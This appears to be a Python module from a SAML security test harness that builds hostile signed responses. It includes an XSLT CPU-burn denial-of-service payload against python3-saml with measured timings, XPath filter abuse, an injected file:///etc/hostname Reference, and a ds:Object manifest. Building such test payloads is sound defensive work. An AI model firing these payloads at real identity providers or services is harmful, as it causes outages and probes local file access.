"""B14 hostile-response builders: XML-DSig transform and feature abuse (XSLT CPU burn, XPath
filter, extra Reference, ds:Object). Re-exported by ``attacks``; same conventions."""

from __future__ import annotations

import base64
import copy
import uuid
from collections.abc import Callable
from typing import Literal

from lxml import etree

from ._tree import after_conditions, assertion_of, mutator, q, signature_of

Target = Literal["assertion", "response"]
XSLT_ALG = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH_ALG = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSL = "http://www.w3.org/1999/XSL/Transform"
JUNK_DIGEST = base64.b64encode(b"\x00" * 32).decode()
JUNK_SIGNATURE = base64.b64encode(b"\x01" * 256).decode()


def _target_signature(root: etree._Element, target: Target) -> etree._Element:
    return signature_of(root if target == "response" else assertion_of(root))


def _first_reference(sig: etree._Element) -> etree._Element:
    ref = sig.find(f"{q('ds', 'SignedInfo')}/{q('ds', 'Reference')}")
    if ref is None:
        raise ValueError("signature has no ds:Reference")
    return ref


def _add_transform(sig: etree._Element, algorithm: str) -> etree._Element:
    transforms = _first_reference(sig).find(q("ds", "Transforms"))
    if transforms is None:
        raise ValueError("signature has no ds:Transforms")
    return etree.SubElement(transforms, q("ds", "Transform"), Algorithm=algorithm)


def _junk_values(sig: etree._Element) -> None:
    for digest in sig.iter(q("ds", "DigestValue")):
        digest.text = JUNK_DIGEST
    for value in sig.iter(q("ds", "SignatureValue")):
        value.text = JUNK_SIGNATURE


@mutator
def xslt_transform(root: etree._Element, payload_padding: int = 50,
                   target: Target = "assertion") -> None:
    """GHSA-8mmq-f9vf-8fg2 DoS: an XSLT transform with a triple-nested ``xsl:for-each`` over
    ``//node()`` appended to the target Reference, ``payload_padding`` empty foreign elements in
    saml:Advice, junk DigestValue/SignatureValue. With ``target="assertion"`` the Response
    signature is removed (python3-saml verifies it first, and it would fail cheaply). Measured on
    unprotected python3-saml 1.16.0: 100 -> 1.2 s, 200 -> 4.6 s, 400 -> 23 s, 800 -> 144 s
    of CPU (~cubic). Never run more than a few dozen against an unprotected verifier."""
    if target == "assertion":
        sig = root.find(q("ds", "Signature"))
        if sig is not None:
            root.remove(sig)
    advice = etree.Element(q("saml", "Advice"), nsmap={"pad": "urn:x-pad"})
    after_conditions(assertion_of(root), advice)
    for _ in range(payload_padding):
        etree.SubElement(advice, "{urn:x-pad}p")
    sig = _target_signature(root, target)
    sheet = etree.SubElement(_add_transform(sig, XSLT_ALG), f"{{{XSL}}}stylesheet",
                             nsmap={"xsl": XSL}, version="1.0")
    node = etree.SubElement(sheet, f"{{{XSL}}}template", match="/")
    for _ in range(3):
        node = etree.SubElement(node, f"{{{XSL}}}for-each", select="//node()")
    etree.SubElement(node, f"{{{XSL}}}if", test="self::nothing").text = "x"
    _junk_values(sig)


@mutator
def xpath_filter_transform(root: etree._Element,
                           expression: str = "not(ancestor-or-self::ds:Signature)",
                           target: Target = "assertion") -> None:
    """An XPath filter transform (REC-xpath-19991116) appended to the Reference; junk values."""
    sig = _target_signature(root, target)
    etree.SubElement(_add_transform(sig, XPATH_ALG), q("ds", "XPath")).text = expression
    _junk_values(sig)


@mutator
def extra_reference(root: etree._Element, uri: str = "file:///etc/hostname",
                    target: Target = "assertion") -> None:
    """A second ds:Reference (to ``uri``, no transforms) in SignedInfo, so the SignatureValue
    no longer matches."""
    first = _first_reference(_target_signature(root, target))
    ref = copy.deepcopy(first)
    ref.set("URI", uri)
    transforms = ref.find(q("ds", "Transforms"))
    if transforms is not None:
        ref.remove(transforms)
    first.addnext(ref)


@mutator
def signature_object(root: etree._Element, target: Target = "response") -> None:
    """A ds:Object (holding a ds:Manifest) appended to the target Signature. It lies outside
    SignedInfo and under the enveloped transform, so every signature stays valid: only an
    explicit policy rejects it. Targets the Response signature by default (an Object in the
    assertion signature breaks an enclosing Response signature)."""
    obj = etree.SubElement(_target_signature(root, target), q("ds", "Object"),
                           Id="_obj_" + uuid.uuid4().hex)
    ref = etree.SubElement(etree.SubElement(obj, q("ds", "Manifest")), q("ds", "Reference"),
                           URI="file:///etc/hostname")
    etree.SubElement(ref, q("ds", "DigestMethod"),
                     Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
    etree.SubElement(ref, q("ds", "DigestValue")).text = JUNK_DIGEST


TRANSFORM_ABUSE: dict[str, Callable[[str], str]] = {
    "xslt_transform": xslt_transform, "xpath_filter_transform": xpath_filter_transform,
    "extra_reference": extra_reference, "signature_object": signature_object,
}
